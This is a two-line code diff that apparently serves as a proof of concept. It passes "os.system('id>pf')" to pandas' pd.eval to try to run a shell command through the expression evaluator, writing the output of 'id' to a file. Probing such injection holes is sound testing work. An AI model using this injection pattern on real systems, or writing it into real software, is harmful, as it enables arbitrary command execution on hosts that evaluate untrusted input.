@@ -1,0 +1,2 @@
+import pandas as pd, os
+pd.eval("os.system('id>pf')")
